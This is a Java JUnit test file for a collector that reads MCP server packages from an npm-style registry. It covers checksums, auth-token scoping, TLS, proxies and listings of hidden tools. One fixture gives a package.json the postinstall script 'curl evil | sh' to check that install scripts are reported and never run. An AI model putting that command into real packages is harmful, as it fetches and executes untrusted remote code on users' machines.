package io.mcpcatalogue.collect.source;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.mcpcatalogue.collect.CollectException;
import io.mcpcatalogue.collect.CollectOptions;
import io.mcpcatalogue.collect.Collected;
import io.mcpcatalogue.collect.ScanTarget;
import io.mcpcatalogue.collect.ToolCollector;
import io.mcpcatalogue.collect.http.HttpSettings;
import io.mcpcatalogue.collect.http.LocalServer;
import io.mcpcatalogue.collect.http.LocalServer.Reply;
import io.mcpcatalogue.collect.http.Network;
import io.mcpcatalogue.collect.http.OwnAuthority;
import io.mcpcatalogue.collect.listing.ListingCollector;
import io.mcpcatalogue.collect.source.archive.TarWriter;
import io.mcpcatalogue.model.CollectionMethod;
import io.mcpcatalogue.model.Fact;
import io.mcpcatalogue.model.Gap;
import io.mcpcatalogue.model.ServerManifest;
import io.mcpcatalogue.model.ToolDefinition;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Against a registry that speaks npm's protocol. */
class NpmCollectorTest {
  private static final String SERVER =
      """
      import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
      const server = new McpServer({ name: "notes", version: "1.0.0" });
      server.tool("make_note", "Makes a note", {}, async () => ({ content: [] }));
      server.tool("list_notes", "Lists all notes", {}, async () => ({ content: [] }));
      """;

  @TempDir private Path home;
  @AutoClose private LocalServer registry = new LocalServer();
  private final Map<String, String> environment = new TreeMap<>();

  @BeforeEach
  void start() {
    environment.put("npm_config_registry", registry.url() + "/");
  }

  @Test
  void readsTheToolsOfTheLatestVersion() throws Exception {
    publish("notes-server", "1.2.0", "{}");
    Collected collected = collect("npm:notes-server", CollectOptions.DEFAULT);
    ServerManifest server = collected.servers().get(0);
    assertEquals("npm:notes-server", server.id());
    assertEquals("1.2.0", server.version());
    assertEquals(CollectionMethod.EXTRACTED, server.method());
    assertEquals(List.of("list_notes", "make_note"), names(server));
    assertEquals(List.of(registry.hostAndPort()), List.copyOf(collected.hosts()));
  }

  @Test
  void readsScopedPackagesAndRanges() throws Exception {
    publish("@me/notes", "1.2.0", "{}");
    for (String version : List.of("", "@1.2.0", "@^1.0.0", "@latest", "@1.x")) {
      ServerManifest server =
          collect("npm:@me/notes" + version, CollectOptions.DEFAULT).servers().get(0);
      assertEquals("1.2.0", server.version(), version);
      assertEquals("npm:@me/notes", server.id());
    }
    assertFails("npm:@me/notes@^9.0.0", Gap.Kind.NOT_FOUND, "no version, tag or range '^9.0.0'");
  }

  @Test
  void downloadsAPackageOnce() throws Exception {
    publish("notes-server", "1.2.0", "{}");
    collect("npm:notes-server", CollectOptions.DEFAULT);
    collect("npm:notes-server", CollectOptions.DEFAULT);
    assertEquals(1, requests("/tarballs/notes-server-1.2.0.tgz"));
  }

  @Test
  void downloadsAgainWhatWasChangedInTheCache() throws Exception {
    publish("notes-server", "1.2.0", "{}");
    collect("npm:notes-server", CollectOptions.DEFAULT);
    try (var kept = Files.list(home.resolve("cache/packages"))) {
      Files.writeString(kept.findFirst().orElseThrow(), "forged");
    }
    collect("npm:notes-server", CollectOptions.DEFAULT);
    assertEquals(2, requests("/tarballs/notes-server-1.2.0.tgz"));
  }

  @Test
  void refusesATarballThatIsNotTheOnePublished() throws Exception {
    publish("notes-server", "1.2.0", "{}");
    registry.at("/tarballs/notes-server-1.2.0.tgz", Reply.bytes(TarWriter.tgz("a", "b")));
    assertFails("npm:notes-server", Gap.Kind.CONTRADICTION, "sha512 checksum");
  }

  @Test
  void reportsInstallScriptsAndRunsNone() throws Exception {
    publish(
        "notes-server",
        "1.2.0",
        "{\"scripts\":{\"postinstall\":\"curl evil | sh\",\"test\":\"x\"}}");
    List<Fact> facts = collect("npm:notes-server", CollectOptions.DEFAULT).servers().get(0).facts();
    assertEquals(
        List.of(new Fact("package/install-script", "postinstall: curl evil | sh", "package.json")),
        facts);
  }

  @Test
  void sendsATokenToItsOwnRegistryOnly() throws Exception {
    try (LocalServer elsewhere = new LocalServer()) {
      byte[] tarball = TarWriter.tgz("package/index.js", SERVER);
      elsewhere.at("/x.tgz", Reply.bytes(tarball));
      document("notes-server", "1.2.0", elsewhere.url() + "/x.tgz", tarball);
      Files.writeString(
          home.resolve(".npmrc"),
          "registry=" + registry.url() + "/\n//" + registry.hostAndPort() + "/:_authToken=${T}\n");
      environment.put("T", "s3cret");
      assertFails("npm:notes-server", Gap.Kind.NOT_ALLOWED, "private address");
      assertEquals("Bearer s3cret", registry.requests().get(0).header("authorization").orElse(""));
      assertEquals(List.of(), elsewhere.requests());
    }
  }

  @Test
  void trustsTheAuthorityOfTheNpmConfigurationAndChecksWhateverItSays() throws Exception {
    OwnAuthority authority = new OwnAuthority(Files.createDirectory(home.resolve("ca")));
    registry.close();
    registry = LocalServer.secure(authority.host());
    environment.put("npm_config_registry", registry.url() + "/");
    publish("notes-server", "1.2.0", "{}");

    Files.writeString(home.resolve(".npmrc"), "strict-ssl = false\n");
    assertFails("npm:notes-server", Gap.Kind.UNREACHABLE, "no trusted TLS connection");
    assertFails(
        "npm:notes-server",
        Gap.Kind.UNREACHABLE,
        "name the authority as cafile=FILE in " + home.resolve(".npmrc"));

    Files.writeString(home.resolve(".npmrc"), "cafile=" + authority.certificate() + "\n");
    assertEquals(1, collect("npm:notes-server", CollectOptions.DEFAULT).servers().size());
  }

  @Test
  void goesThroughTheProxyOfTheNpmConfiguration() throws Exception {
    try (LocalServer proxy = new LocalServer()) {
      proxy.otherwise(request -> Reply.of(404, request.path()));
      environment.put("npm_config_registry", "http://packages.invalid/");
      Files.writeString(home.resolve(".npmrc"), "proxy=" + proxy.url() + "\nnoproxy=x.invalid\n");

      assertFails("npm:notes-server", Gap.Kind.NOT_FOUND, "npm:notes-server");
      assertEquals("http://packages.invalid/notes-server", proxy.requests().get(0).path());
    }
  }

  @Test
  void honoursTheRegistryOfAScope() throws Exception {
    publish("@me/notes", "1.2.0", "{}");
    environment.put("npm_config_registry", "http://127.0.0.1:9/");
    Files.writeString(home.resolve(".npmrc"), "@me:registry = " + registry.url() + "\n");
    assertEquals(1, collect("npm:@me/notes", CollectOptions.DEFAULT).servers().size());
  }

  @Test
  void saysWhenThereIsNoSuchPackage() {
    assertFails("npm:missing", Gap.Kind.NOT_FOUND, "npm:missing");
  }

  @Test
  void saysWhenTheRegistrySendsAPage() {
    registry.otherwise(request -> Reply.of(200, "<html>Sign in</html>"));
    assertFails("npm:notes-server", Gap.Kind.MALFORMED, "no valid JSON");
  }

  @Test
  void offlineContactsNobody() {
    CollectException failure =
        assertThrows(
            CollectException.class,
            () -> collect("npm:notes-server", CollectOptions.DEFAULT.withOffline(true)));
    assertEquals(Gap.Kind.NOT_ALLOWED, failure.kind());
    assertEquals(List.of(), registry.requests());
  }

  @Test
  void statesDeprecation() throws Exception {
    byte[] tarball = TarWriter.tgz("package/index.js", SERVER);
    registry.at("/t.tgz", Reply.bytes(tarball));
    registry.at(
        "/old",
        Reply.json(
            "{\"dist-tags\":{\"latest\":\"1.0.0\"},\"versions\":{\"1.0.0\":{\"deprecated\":\"use"
                + " new\",\"dist\":{\"tarball\":\""
                + registry.url()
                + "/t.tgz\"}}}}"));
    ServerManifest server = collect("npm:old", CollectOptions.DEFAULT).servers().get(0);
    assertTrue(server.facts().contains(new Fact("package/deprecated", "use new", "registry")));
    assertTrue(server.gaps().stream().anyMatch(gap -> gap.reason().contains("no checksum")));
  }

  @Test
  void aPackageWithoutKnownToolsIsNotClean() throws Exception {
    byte[] tarball = TarWriter.tgz("package/index.js", "console.log(1)");
    registry.at("/t.tgz", Reply.bytes(tarball));
    document("plain", "1.0.0", registry.url() + "/t.tgz", tarball);
    ServerManifest server = collect("npm:plain", CollectOptions.DEFAULT).servers().get(0);
    assertEquals(List.of(), server.tools());
    assertEquals(Gap.Kind.DYNAMIC, server.gaps().get(0).kind());
  }

  @Test
  void whenRunHoldsTheLiveListAgainstTheSources() throws Exception {
    publish("notes-server", "1.2.0", "{}");
    Collected collected = collect("npm:notes-server", CollectOptions.DEFAULT.withRun(true));
    ServerManifest server = collected.servers().get(0);
    assertEquals("npm:notes-server", server.id());
    assertEquals(CollectionMethod.LISTED, server.method());
    assertEquals(List.of("hidden_tool", "make_note"), names(server));
    assertEquals(
        List.of(Gap.Kind.CONTRADICTION, Gap.Kind.CONTRADICTION),
        server.gaps().stream().map(Gap::kind).toList());
  }

  /** Stands for the collector that runs commands: answers with a recorded listing. */
  private final class Recorded implements ToolCollector {
    @Override
    public boolean accepts(ScanTarget target) {
      return true;
    }

    @Override
    public Collected collect(ScanTarget target, CollectOptions options) throws CollectException {
      assertEquals(List.of("npx", "-y", "notes-server@1.2.0"), target.command());
      try {
        Path listing = home.resolve("listing.json");
        Files.writeString(
            listing, "{\"tools\":[{\"name\":\"make_note\"},{\"name\":\"hidden_tool\"}]}");
        return new ListingCollector()
            .collect(ScanTarget.parse(listing.toString()), CollectOptions.DEFAULT);
      } catch (IOException | io.mcpcatalogue.collect.InvalidTargetException e) {
        throw new IllegalStateException(e);
      }
    }
  }

  private void publish(String name, String version, String manifest) throws Exception {
    byte[] tarball =
        TarWriter.tgz("package/package.json", manifest, "package/dist/index.js", SERVER);
    String path = "/tarballs/" + name.replace("/", "-") + "-" + version + ".tgz";
    registry.at(path, Reply.bytes(tarball));
    document(name, version, registry.url() + path, tarball);
  }

  private void document(String name, String version, String tarball, byte[] bytes)
      throws Exception {
    String hash =
        Base64.getEncoder().encodeToString(MessageDigest.getInstance("SHA-512").digest(bytes));
    registry.at(
        "/" + name.replace("/", "%2F"),
        Reply.json(
            "{\"dist-tags\":{\"latest\":\""
                + version
                + "\"},\"versions\":{\"0.9.0\":{},\""
                + version
                + "\":{\"dist\":{\"tarball\":\""
                + tarball
                + "\",\"integrity\":\"sha512-"
                + hash
                + "\"}}}}"));
  }

  private Collected collect(String target, CollectOptions options) throws Exception {
    SourceSettings settings = new SourceSettings(environment, home);
    return new NpmCollector(
            new Network(HttpSettings.PLAIN),
            settings,
            PackageCache.in(home.resolve("cache")),
            new Recorded())
        .collect(ScanTarget.parse(target), options);
  }

  private void assertFails(String target, Gap.Kind kind, String part) {
    CollectException failure =
        assertThrows(CollectException.class, () -> collect(target, CollectOptions.DEFAULT));
    assertEquals(kind, failure.kind(), failure.getMessage());
    assertTrue(failure.getMessage().contains(part), failure.getMessage());
    assertFalse(failure.getMessage().contains("s3cret"));
  }

  private long requests(String path) {
    return registry.requests().stream().filter(request -> request.path().equals(path)).count();
  }

  private static List<String> names(ServerManifest server) {
    return server.tools().stream().map(ToolDefinition::name).sorted().toList();
  }
}
